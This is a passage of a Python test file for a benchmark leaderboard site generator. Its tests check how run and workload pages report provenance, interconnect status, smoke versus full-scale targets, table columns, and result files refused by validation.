    unstamped = run_page.distributed_context(doc["runs"][0])
    assert unstamped["checked"] == run_page.RANKS_SELF_REPORTED and "self-reported" in unstamped["checked"]
    assert run_page.distributed_context(doc["runs"][0], stamped=True)["checked"] == run_page.RANKS_CHECKED
    # only the world size of the settings' distributed section is checked (the backend read "checked" too)
    assert provenance("settings.distributed.backend") == "self-reported"
    assert provenance("settings.distributed.world_size").startswith("checked against")


def test_interconnect_text_says_why_it_is_unknown():
    assert run_page.interconnect_text({}) is None
    assert run_page.interconnect_text({"interconnect": {"summary": "pcie"}}) == "pcie"
    assert run_page.interconnect_text({"interconnect": {
        "summary": None, "summary_status": "unknown: NVML could not read the NVLink state of every GPU"}}) == \
        "unknown: NVML could not read the NVLink state of every GPU"
    # a CPU run has no GPUs to link: no line, where the pages said "interconnect unknown: not queried"
    assert run_page.interconnect_text({"accelerator": {"type": "cpu"}, "interconnect": {
        "summary": None, "summary_status": "unknown: not queried: the device is the CPU"}}) is None


def test_each_section_of_a_workload_page_names_its_own_target(built):
    """The smoke section is scored against the smoke spec's target, not the full-scale one."""
    _, out, _ = built
    page = (out / "workloads" / f"{safe_name('dlrm-small')}.html").read_text()
    full = labels.target_text(registry.get("dlrm-small").spec("full").target)
    smoke = labels.target_text(registry.get("dlrm-small").spec("smoke").target)
    assert full != smoke
    assert f"time to {html.escape(full)} at full scale" in page
    assert f"Smoke scale — not ranked (a quick check, not a benchmark); score: time to {html.escape(smoke)}" in page


def test_every_column_of_every_table_is_defined_once_and_reads_a_real_entry():
    """A leaderboard column is one :class:`suite.site.columns.Column` (key, label, kind, unit, its
    cell and the line under it): the tables name them by key, and every one reads a real entry."""
    from suite.leaderboard import rows as leaderboard
    from suite.site import columns, labels, tables

    assert set(tables.ENTRY_TABLE) | set(tables.SYSTEM_TABLE) <= set(columns.COLUMNS)
    assert len(columns.COLUMNS) == len(columns._COLUMNS) and not hasattr(labels, "COLUMNS")
    doc = factories.synthetic_document("column-box", rng=np.random.default_rng(2))
    entry = {**leaderboard.rows("f.json", doc)[0], "run_id": doc["runs"][0]["run_id"]}
    for key, column in columns.COLUMNS.items():
        got = columns.cell(key, entry, "../", 1)
        assert got["text"] and column.kind in ("num", "text") and columns.header(key)["label"] == column.label


def test_a_workload_page_points_to_the_files_of_it_that_were_not_shown(tmp_path):
    """A workload whose only file was refused says so on its page, with a link to the index's
    "Files not shown"; a workload with no refused file, or a file that cannot be read, says nothing."""
    folder = tmp_path / "results"
    doc = factories.synthetic_document("synthetic-one", rng=np.random.default_rng(6), scale="smoke",
                                       workloads=("dlrm-small",))
    doc["runs"][0]["metrics"]["flops_per_step"] *= 1.5  # a FLOP figure the pinned spec does not give
    raw = json.dumps(doc).encode()
    folder.mkdir()
    (folder / f"{hashlib.sha256(raw).hexdigest()}.json").write_bytes(raw)
    (folder / "text.json").write_text("not json")
    out = tmp_path / "out"
    site.build(folder, out)
    page = html.unescape((out / "workloads" / f"{safe_name('dlrm-small')}.html").read_text())
    assert "No results yet." in page
    assert ("1 file holding runs of dlrm-small is not shown (refused by validation, or not stored by "
            'goodbench submit): see <a href="../index.html#invalid">Files not shown</a>') in page
    assert 'id="invalid"' in (out / "index.html").read_text()
    assert 'id="refused"' not in (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()


@pytest.mark.parametrize("doc", [
    {"schema_version": 1, "runs": [{"workload": {"id": ["dlrm-small"]}}]},  # a list id (review M1)
    {"schema_version": 1, "runs": [{"workload": {"id": {"dlrm-small": 1}}}]},  # an object id
    {"schema_version": 1, "runs": {"workload": {"id": "dlrm-small"}}},  # runs not a list
    {"schema_version": 1, "runs": [{"workload": "dlrm-small"}, "dlrm-small", None]},  # workload not an object
    "not json"], ids=["list-id", "dict-id", "runs-not-list", "workload-not-dict", "not-json"])
def test_a_refused_file_of_any_shape_names_no_workload_and_the_site_still_builds(tmp_path, doc):
    """The files counted for "not shown" are the refused ones, so any shape must build: an id
    that is not a string (unhashable, once a crash of the whole build), ``runs`` not a list, a
    ``workload`` not an object, or a file that is not JSON count for no workload."""
    from suite.site import refused

    folder = tmp_path / "results"
    folder.mkdir()
    raw = doc.encode() if isinstance(doc, str) else json.dumps(doc).encode()
    (folder / "bad.json").write_bytes(raw)
    (folder / f"{hashlib.sha256(raw).hexdigest()}.json").write_bytes(raw)  # the same, stored by its name
    out = tmp_path / "out"
    built = builder.build_site(folder, out)
    assert {name for name, _ in built.invalid} == {"bad.json", f"{hashlib.sha256(raw).hexdigest()}.json"}
    assert 'id="refused"' not in (out / "workloads" / f"{safe_name('dlrm-small')}.html").read_text()
    assert refused.workload_ids(None if isinstance(doc, str) else doc) == []


def test_the_refused_files_are_counted_from_the_builders_one_reading(tmp_path, monkeypatch):
    """The count of refused files per workload takes the workload ids the builder saw when it read
    each file (review L12): no refused file is read again, and a string id among odd ones counts."""
    from suite.site import refused

    assert refused.workload_ids({"runs": [{"workload": {"id": "b"}}, {"workload": {"id": ["x"]}},
                                          {"workload": {"id": "a"}}, {"workload": {"id": "b"}}]}) == ["a", "b"]
    assert refused.by_workload({"x.json": ["a", "b"], "y.json": ["b"], "z.json": []}, ["b", "c"]) == {"b": 2}
    folder = tmp_path / "results"
    folder.mkdir()
    (folder / "bad.json").write_text(json.dumps({"schema_version": 1, "runs": [{"workload": {"id": "dlrm-small"}}]}))
    reads: list[str] = []
    real = leaderboard.read_stored_parsed
    monkeypatch.setattr(leaderboard, "read_stored_parsed", lambda p: reads.append(p.name) or real(p))
    out = tmp_path / "out"
    site.build(folder, out)
    assert reads == ["bad.json"]
    assert "1 file holding runs of dlrm-small is not shown" in html.unescape(
        (out / "workloads" / f"{safe_name('dlrm-small')}.html").read_text())
